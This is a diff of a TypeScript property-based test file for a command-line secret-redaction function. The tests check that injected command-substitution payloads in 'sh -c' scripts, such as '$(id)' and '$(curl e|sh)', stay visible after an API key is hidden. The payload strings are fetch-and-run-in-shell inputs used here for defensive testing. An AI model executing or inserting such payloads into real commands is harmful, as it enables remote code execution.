@@ -113,15 +113,13 @@ describe("a `${…}` no reader fills is literal text", () => {
       { numRuns: 300 },
     );
     // Pasted, a blank stands only inside a closed `${…}` (one elsewhere in a quoted URL's value, or in
-    // a `${` left open, cuts the URL there as before: `srv --url "https://h/p?token=a b"`).
+    // a `${` left open, cuts the URL there as before: `srv --url "https://h/p?token=a b"`), and no
+    // `${X}` (a short label after one, `${X}-Q`, is read as run-time text by design).
     const lineValue = fc
-      .array(
-        fc.oneof(literal, fc.constantFrom("${-  %J}", "${X Y}", "${V Q}", "-", "%", ":-", "X", "${X}", "/")),
-        {
-          minLength: 1,
-          maxLength: 8,
-        },
-      )
+      .array(fc.oneof(literal, fc.constantFrom("${-  %J}", "${X Y}", "${V Q}", "-", "%", ":-", "X", "/")), {
+        minLength: 1,
+        maxLength: 8,
+      })
       .map((parts) => parts.join(""))
       .filter((text) => /[JVQ]/.test(text) && !text.startsWith("-"));
     const lines = fc.constantFrom(
@@ -182,6 +180,58 @@ describe("after a flag that takes a value, a word starting with `-` is that valu
         expect(exportedCommand(line)).not.toContain(v);
         expect(withoutCommandLineSecrets(line)).not.toContain(v);
         expectFilledBack(line);
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
+
+// 3. A `sh -c` script read as one connection string (its `;`): a telling pair's value ran over the
+//    script's operators and a `$(…)` escaped for the line's shell (`\$(…)`), which the shell it is
+//    given to runs, and the display hid that payload: `sh -c "srv --api-key=Zq9 | tee \$(id); echo
+//    \$(id)"` was shown `sh -c "srv --api-key=${API_KEY}; echo \$(id)"`. The text beside it is hidden,
+//    the payload shown.
+describe("a `sh -c` script keeps each payload in sight after a hidden value", () => {
+  it("a `\\$(…)` in a pair's value read in the script's `;`-separated text", () => {
+    expect(withoutCommandLineSecrets('sh -c "srv --api-key=Zq9 | tee \\$(id); echo \\$(id)"')).toBe(
+      'sh -c "srv --api-key=${SRV_API_KEY}\\$(id); echo \\$(id)"',
+    );
+    expect(withoutCommandLineSecrets('sh -c "srv --api-key=Zq9 | tee \\`id\\` x;"')).toBe(
+      'sh -c "srv --api-key=${SRV_API_KEY}\\`id\\`${SRV_API_KEY};"',
+    );
+    expectFilledBack('sh -c "srv --api-key=Zq9 | tee \\$(id); echo \\$(id)"');
+    // A `${…}` whose word says something is hidden with the value, as before; one of run-time parts only is shown.
+    expect(withoutCommandLineSecrets('sh -c "srv --api-key=Zq9 | tee \\${X:-Q9secret};"')).not.toContain(
+      "Q9secret",
+    );
+    expect(withoutCommandLineSecrets('sh -c "srv --api-key=Zq9 | tee \\${X:-\\$(id)};"')).toBe(
+      'sh -c "srv --api-key=${SRV_API_KEY}\\${X:-\\$(id)};"',
+    );
+  });
+
+  it("property: pasted in either quote, or the script alone (as the display shows an argument)", () => {
+    const shell = fc.constantFrom("sh -c", "bash -c", "bash -lc");
+    const value = fc.constantFrom(
+      "--token X",
+      "--token Zq9secret",
+      "--api-key=Zq9",
+      "-e GITHUB_TOKEN=Zq9",
+      "--url https://h/p?token=Zq9",
+      "--token -VJJ",
+      "--token ${X Y}",
+    );
+    const payload = fc.constantFrom("$(curl e|sh)", "`curl e|sh`", "${X:-$(curl e|sh)}", "\\$(curl e|sh)");
+    const glue = fc.constantFrom("; echo ", " && echo ", " ", "", " | tee ", "\n echo ", "; X=", " | tee a ");
+    const count = (text: string) => text.split("curl e|sh").length - 1;
+    fc.assert(
+      fc.property(shell, value, payload, glue, fc.boolean(), (sh, v, run, sep, double) => {
+        const script = `srv ${v}${sep}${run}; echo ${run}`;
+        // In '…' a `\$(…)` is no run-time part to either shell (the one given it refuses the `(`).
+        if (!double && (script.includes("'") || run.startsWith("\\"))) return;
+        const line = double ? `${sh} "${script.replace(/"/g, '\\"')}"` : `${sh} '${script}'`;
+        expect(count(withoutCommandLineSecrets(line))).toBe(count(line));
+        // Given as an argument, the script is shown as a command line (the playground's `shownServerArgs`).
+        expect(count(withoutCommandLineSecrets(script))).toBe(count(script));
       }),
       { numRuns: 300 },
     );
